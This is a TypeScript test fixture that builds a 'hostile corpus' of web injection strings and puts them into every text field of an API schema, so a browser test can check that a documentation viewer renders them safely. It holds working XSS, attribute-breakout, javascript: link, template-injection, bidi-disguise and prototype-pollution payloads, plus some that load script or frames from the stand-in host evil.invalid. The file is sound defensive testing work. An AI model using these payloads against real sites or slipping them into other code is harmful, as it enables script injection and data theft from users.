/**
 * The hostile corpus: schema text that tries to run script, load from other hosts, break out of
 * attributes or elements, smuggle template syntax, or disguise itself (bidi controls), plus very
 * long strings. `hostileSchema()` places every string in every position a schema can carry text:
 * descriptions, verbose descriptions, parameter names, enum values, defaults, path segments and
 * `text`, format descriptions, typetext, titles, patterns, permission paths, privilege names and
 * descriptions, method names, property-string keys, links, unknown extra keys.
 *
 * Every payload that would run script sets `window.__pwned` (and/or calls alert/confirm/prompt),
 * every payload that would load something names the host `evil.invalid`: the browser test fails
 * on either.
 */

/** A host no payload may ever make the browser contact. */
export const EVIL_HOST = 'evil.invalid';

const EVIL = `https://${EVIL_HOST}`;

/** Hostile strings, short enough to sit anywhere (path segments included). */
export const HOSTILE: readonly string[] = [
  // Script elements and event handlers
  `<script>window.__pwned=1</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src=x onerror="window.__pwned=2">`,
  `<svg onload=window.__pwned=3>`,
  `<body onload=alert(4)>`,
  `<details open ontoggle=window.__pwned=5>`,
  `<b onclick="window.__pwned=6" onmouseover="window.__pwned=6">bold</b>`,
  `<input autofocus onfocus=window.__pwned=7>`,
  // Attribute breakouts (double, single, unquoted, backtick)
  `"><script>window.__pwned=8</script>`,
  `'><img src=x onerror=window.__pwned=9>`,
  `" onmouseover="window.__pwned=10" x="`,
  `' autofocus onfocus='window.__pwned=11`,
  '` onmouseover=window.__pwned=12 x=`',
  `x onmouseover=window.__pwned=13`,
  // Element breakouts
  `</textarea><script>window.__pwned=14</script>`,
  `</title><script>window.__pwned=15</script>`,
  `</code></pre><script>window.__pwned=16</script>`,
  `</style><script>window.__pwned=17</script>`,
  `</script><script>window.__pwned=18</script>`,
  `</noscript><img src=x onerror=window.__pwned=19>`,
  `<noscript><p title="</noscript><img src=x onerror=window.__pwned=20>">`,
  `<svg><style><img src=x onerror=window.__pwned=21></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=22>`,
  // Unterminated tags and comments
  `<img src=x onerror=window.__pwned=23 `,
  `<script`,
  `<!-- an unterminated comment`,
  `<!--><script>window.__pwned=24</script>-->`,
  `<![CDATA[<script>window.__pwned=25</script>]]>`,
  // Markdown links and images with dangerous or remote targets
  `[click](javascript:window.__pwned=26)`,
  `[click](JaVaScRiPt:window.__pwned=27)`,
  `[click]( javascript:window.__pwned=28 )`,
  `[click](java\tscript:window.__pwned=29)`,
  `[click](&#106;avascript:window.__pwned=30)`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(31))`,
  `[ref link][evil]\n\n[evil]: javascript:window.__pwned=32`,
  `<javascript:window.__pwned=33>`,
  `[t](${EVIL}/ "title\\" onmouseover=\\"window.__pwned=34")`,
  `![tracker](${EVIL}/pixel.png)`,
  `![svg](data:image/svg+xml,<svg onload=window.__pwned=35>)`,
  `<a href="javascript:window.__pwned=36">raw link</a>`,
  // Raw HTML that loads, navigates or restyles
  `<div>\n<iframe src="${EVIL}/frame"></iframe>\n</div>`,
  `<style>body{background:url(${EVIL}/bg.png)}</style>`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/"><button>go</button></form>`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/y">`,
  `<p style="background:url(${EVIL}/s.png)">styled</p>`,
  `<video src="${EVIL}/v.mp4" autoplay></video>`,
  // Template syntax (Handlebars must never evaluate schema text)
  `{{constructor.constructor('window.__pwned=37')()}}`,
  `{{{site.title}}}`,
  `{{> header}}`,
  `{{#each this}}{{this}}{{/each}}`,
  // Pre-escaped text must stay text (no double decoding into markup)
  `&lt;script&gt;window.__pwned=38&lt;/script&gt;`,
  `&#60;img src=x onerror=window.__pwned=39&#62;`,
  // Disguise: bidi controls (Trojan Source) and other invisible or odd characters
  `admin\u202e\u2066// evil\u2069\u2066`,
  `\u200f\u200e\u061c\u202a\u202b\u202c\u202d`,
  `nul\u0000byte and line\u2028separator\u2029`,
  // Names that are special on JavaScript objects (prototype pollution, lookups that hit Object.prototype)
  `__proto__`,
  `constructor`,
  `toString`,
];

/** A payload too long for a path segment or a name: placed in descriptions and defaults only. */
export const LONG_STRINGS: readonly { label: string; text: string }[] = [
  { label: '1 MB of text', text: 'A'.repeat(1 << 20) },
  // Pathological Markdown: unclosed emphasis, links and HTML tags over 1 MB must not take minutes.
  { label: '1 MB of unclosed markup', text: '<b>*_[x]('.repeat((1 << 20) / 9) },
  { label: '1 MB of script tags', text: `<script>window.__pwned=40</script>`.repeat((1 << 20) / 34) },
  { label: '1 MB of one nested list', text: '> - '.repeat((1 << 20) / 4) },
  // Just under the Markdown limit, on input where marked is quadratic.
  { label: '16 K of unclosed emphasis', text: '_a'.repeat(8 * 1024 - 8) },
  { label: '16 K of nested quotes and lists', text: '> - '.repeat(31) + 'x\n' + 'x'.repeat(16 * 1024 - 200) },
];

/** Payload text that must appear somewhere as visible text (proves it was shown, not dropped or run). */
export const VISIBLE_PROBES: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '</textarea><script>window.__pwned=14</script>',
  `{{constructor.constructor('window.__pwned=37')()}}`,
  '<!-- an unterminated comment',
];

const methodInfo = (name: string, s: string, i: number, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  name: `${name}${s}`,
  description: `Summary ${i}: ${s}.\n\n${s}\n\n- item ${s}\n\n    code ${s}\n\n\`inline ${s}\``,
  permissions: {
    description: `Permission text: ${s}`,
    check: ['and', ['perm', `/vms/${s}`, [`VM.${s}`, 'VM.Audit']], ['perm', '/pool/{pool}', ['Pool.Audit'], 'require_param', s]],
  },
  proxyto: s,
  parameters: {
    additionalProperties: 0,
    properties: {
      [s]: {
        type: 'string',
        description: s,
        verbose_description: `Verbose: ${s}`,
        title: s,
        enum: [s, `${s}-2`],
        default: s,
        typetext: s,
        format_description: s,
        pattern: s,
        requires: s,
        renderer: s,
        'instance-types': [s],
        'type-property': s,
        optional: 1,
        [`x-unknown-${s}`]: s,
      },
      [`${s}7`]: { type: 'integer', description: 'family member', optional: 1 },
      [`${s}8`]: { type: 'integer', description: 'family member', optional: 1 },
      prop: {
        type: 'string',
        optional: 1,
        description: `Property string with hostile keys: ${s}`,
        format: {
          [s]: { type: 'string', default_key: 1, description: s, format_description: s, alias: s, keyAlias: s },
          other: { type: 'boolean', optional: 1, description: s, default: s },
        },
      },
      obj: { type: 'object', optional: 1, description: s, properties: { [s]: { type: 'string', description: s, default: s } } },
      list: { type: 'array', optional: 1, description: s, items: { type: 'object', properties: { [s]: { type: 'string', title: s } } } },
      named: { type: 'string', optional: 1, format: `pve-${s}-list`, description: s },
      ...extra,
    },
  },
  returns: {
    type: 'array',
    description: s,
    items: { type: 'object', properties: { [s]: { type: 'string', description: s, enum: [s] } } },
    links: [
      { rel: s, href: `{${s}}` },
      { rel: 'child', href: s },
    ],
  },
});

/**
 * A viewer-dump schema carrying every hostile string in every position. `long` adds the 1 MB
 * strings (in descriptions and defaults of one extra path).
 */
export function hostileSchema(options: { long?: boolean } = {}): unknown[] {
  const children = HOSTILE.map((s, i) => ({
    // Path segments: the literal hostile text (written as ~hex in the file name).
    path: `/hostile/${s}`,
    text: s,
    leaf: 0,
    info: {
      GET: methodInfo('get_', s, i),
      POST: { ...methodInfo('post_', s, i), permissions: { user: 'world', description: s } },
      PUT: { ...methodInfo('put_', s, i), permissions: { check: ['perm-modify', `/access/${s}`] } },
      DELETE: { ...methodInfo('delete_', s, i), permissions: { check: [s, 'unknown', { [s]: s }] }, allowtoken: 0, protected: 1 },
    },
    children: [{ path: `/hostile/${s}/{${`p${i}`}}`, text: `{p${i}}`, leaf: 1, info: { GET: methodInfo('child_', s, i) } }],
  }));
  const root: Record<string, unknown>[] = [
    {
      path: '/hostile',
      text: 'hostile',
      leaf: 0,
      info: {
        GET: {
          name: 'index',
          description: `The hostile corpus: ${HOSTILE.length} strings.\n\n${HOSTILE.map((s) => `- ${s}`).join('\n')}`,
          permissions: { user: 'all' },
          parameters: { additionalProperties: 0, properties: {} },
          returns: { type: 'array', items: { type: 'object', properties: {} }, links: [{ rel: 'child', href: '{name}' }] },
        },
      },
      children,
    },
  ];
  if (options.long) {
    const properties: Record<string, unknown> = {};
    LONG_STRINGS.forEach(({ text }, i) => {
      properties[`long${i}x`] = { type: 'string', optional: 1, description: text, verbose_description: text, default: text, enum: [text] };
    });
    root.push({
      path: '/long',
      text: 'long',
      leaf: 1,
      info: {
        GET: {
          name: 'long',
          description: LONG_STRINGS.map((l) => l.label).join(', '),
          parameters: { additionalProperties: 0, properties },
          returns: { type: 'string', description: LONG_STRINGS[0]!.text },
        },
      },
    });
  }
  return root;
}
